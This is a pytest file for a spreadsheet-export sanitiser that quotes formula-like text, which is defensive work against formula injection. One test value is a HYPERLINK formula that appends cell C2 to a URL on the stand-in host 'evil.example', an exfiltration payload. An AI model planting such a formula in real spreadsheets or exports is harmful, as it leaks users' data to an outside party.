from __future__ import annotations

import pytest

from kit.spreadsheets import neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&C2,"Voir")',
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
    ],
)
def test_formula_like_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Marie-Hélène Durand", "a=b", "", 12, None, -3.5])
def test_other_values_are_kept(value: object) -> None:
    assert neutralise(value) == value
